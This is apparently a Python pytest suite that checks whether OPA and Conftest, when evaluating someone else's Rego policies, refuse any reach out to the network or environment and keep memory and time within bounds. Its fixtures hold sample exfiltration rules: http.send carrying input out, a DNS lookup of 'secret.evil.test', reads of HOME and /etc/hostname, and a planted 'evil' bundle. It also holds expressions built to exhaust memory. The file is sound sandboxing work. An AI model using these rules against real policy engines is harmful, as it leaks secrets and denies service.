"""No policy that is evaluated here reaches out: not over the network, not into the environment."""

from __future__ import annotations

import json
import tarfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from helpers.core import process
from helpers.wrappers import rego_capabilities
from helpers.wrappers.base import TooMuchMemory
from helpers.wrappers.conftest import Conftest
from helpers.wrappers.opa import Opa, OpaServer, Undefined
from helpers.wrappers.policy import RegoError
from helpers.wrappers.rego_capabilities import FORBIDDEN, restricted

#: Ways out, each as a rule that would carry something away.
WAYS_OUT = {
    "http.send": 'http.send({"method": "get", "url": sprintf("http://127.0.0.1:9/%v", [input])}).status_code == 200',
    "opa.runtime": "opa.runtime().env.HOME != input.home",
    "net.lookup_ip_addr": 'count(net.lookup_ip_addr("secret.evil.test")) > 0',
    "json.match_schema": 'json.match_schema({}, {"$ref": "file:///etc/hostname"})[0]',
    "json.verify_schema": 'json.verify_schema({"$ref": "file:///etc/hostname"})[0]',
}
RULE = 'package main\n\ndeny contains "found" if {\n\t%s\n}\n'
TEST = "package main_test\n\nimport data.main\n\ntest_it if {\n\tcount(main.deny) == 0\n}\n"

#: Every way in which Rego of somebody else is evaluated.
READERS: dict[str, Callable[[Path], object]] = {
    "conftest test": lambda room: Conftest(room).test(document={"home": "x"}, policies=["policy"]),
    "conftest verify": lambda room: Conftest(room).verify(policies=["policy"]),
    "opa eval": lambda room: Opa(room).eval("data.main.deny", data=["policy"], input={"home": "x"}),
    "opa test": lambda room: Opa(room).test("policy"),
    "opa build": lambda room: Opa(room).build("policy"),
}


@pytest.mark.parametrize("way", WAYS_OUT)
@pytest.mark.parametrize("reader", READERS)
def test_way_out_is_refused_before_anything_is_evaluated(tmp_path: Path, reader: str, way: str) -> None:
    policy(tmp_path, RULE % WAYS_OUT[way])
    with pytest.raises(RegoError, match="reaches out of the evaluation") as caught:
        READERS[reader](tmp_path)
    assert way in caught.value.why


@pytest.mark.parametrize("way", WAYS_OUT)
def test_check_names_it_with_its_line(tmp_path: Path, way: str) -> None:
    policy(tmp_path, RULE % WAYS_OUT[way])
    (problem, *_) = Opa(tmp_path).check("policy").problems
    assert (way in problem.message, problem.line) == (True, 4)


def test_it_is_not_hidden_by_an_alias_or_a_with(tmp_path: Path) -> None:
    policy(tmp_path, "package main\n\nfetch(x) := http.send(x)\n\ndeny contains 1 if fetch({}) with input as {}\n")
    with pytest.raises(RegoError, match=r"http\.send"):
        Conftest(tmp_path).test(document={}, policies=["policy"])


def test_what_does_not_reach_out_stays(tmp_path: Path) -> None:
    policy(tmp_path, RULE % 'net.cidr_contains("10.0.0.0/8", input.home)')
    report = Conftest(tmp_path).test(document={"home": "10.1.0.0/16"}, policies=["policy"])
    assert [found.msg for found in report.failures] == ["found"]
    assert not any(name in restricted().read_text() for name in FORBIDDEN)


def policy(room: Path, text: str) -> None:
    (room / "policy").mkdir()
    (room / "policy" / "main.rego").write_text(text)
    (room / "policy" / "main_test.rego").write_text(TEST)


def test_a_bundle_beside_the_policies_is_not_served(tmp_path: Path) -> None:
    policy(tmp_path, RULE % "input.home")
    (tmp_path / "evil.rego").write_text("package evil\n\nenv := opa.runtime().env\n")
    with tarfile.open(tmp_path / "policy" / "data.tar.gz", "w:gz") as bundle:
        bundle.add(tmp_path / "evil.rego", "/evil.rego")
    with OpaServer(tmp_path / "policy") as server:
        assert server.decide("main/deny", {"home": True})
        with pytest.raises(Undefined):
            server.decide("evil/env", {})


@pytest.mark.parametrize("planted", ["", "{}", "[]", "everything", "the network"])
def test_a_list_in_the_cache_that_allows_more_is_made_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, planted: str
) -> None:
    monkeypatch.setattr(rego_capabilities, "cache_dir", lambda: tmp_path)
    honest = json.loads(restricted().read_text())
    more = {
        "everything": {**honest, "builtins": [*honest["builtins"], {"name": "http.send"}]},
        "the network": {name: value for name, value in honest.items() if name != "allow_net"},
    }
    restricted().write_text(json.dumps(more[planted]) if planted in more else planted)
    assert json.loads(restricted().read_text()) == honest


#: Each stands for a value of many gigabytes.
HUGE = ("count(numbers.range(0, 1000000000)) > 1", 'count(net.cidr_expand("::/0")) > 1', "bits.lsh(1, 99999999999) > 0")


@pytest.mark.parametrize("rule", HUGE)
def test_memory_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rule: str) -> None:
    policy(tmp_path, RULE % rule)
    assert Conftest.memory == Opa.memory == rego_capabilities.MEMORY <= 2_000_000_000
    for wrapper in (Conftest, Opa):
        # As much as they need for what they are asked otherwise; more would only take longer to fill.
        monkeypatch.setattr(wrapper, "memory", 200_000_000)
    for reader in ("conftest test", "opa eval", "opa test"):
        with pytest.raises(TooMuchMemory, match="200,000,000 bytes"):
            READERS[reader](tmp_path)


#: The same with a second to do it in.
LIMITED: dict[str, Callable[[Path], object]] = {
    "conftest test": lambda room: Conftest(room, timeout=1).test(document={}, policies=["policy"]),
    "opa eval": lambda room: Opa(room, timeout=1).eval("data.main.deny", data=["policy"], input={}),
    "opa test": lambda room: Opa(room, timeout=1).test("policy"),
}


@pytest.mark.parametrize("reader", LIMITED)
def test_time_is_bounded(tmp_path: Path, reader: str) -> None:
    assert Conftest(tmp_path).timeout and Opa(tmp_path).timeout, "by default there is a limit"
    endless = (
        "some a in numbers.range(1, 9999)\n\tsome b in numbers.range(1, 9999)\n\tsome c in [1, 2]\n\ta * b * c < 0"
    )
    policy(tmp_path, RULE % endless)
    begun = time.monotonic()
    with pytest.raises(process.TimedOut):
        LIMITED[reader](tmp_path)
    assert time.monotonic() - begun < 20
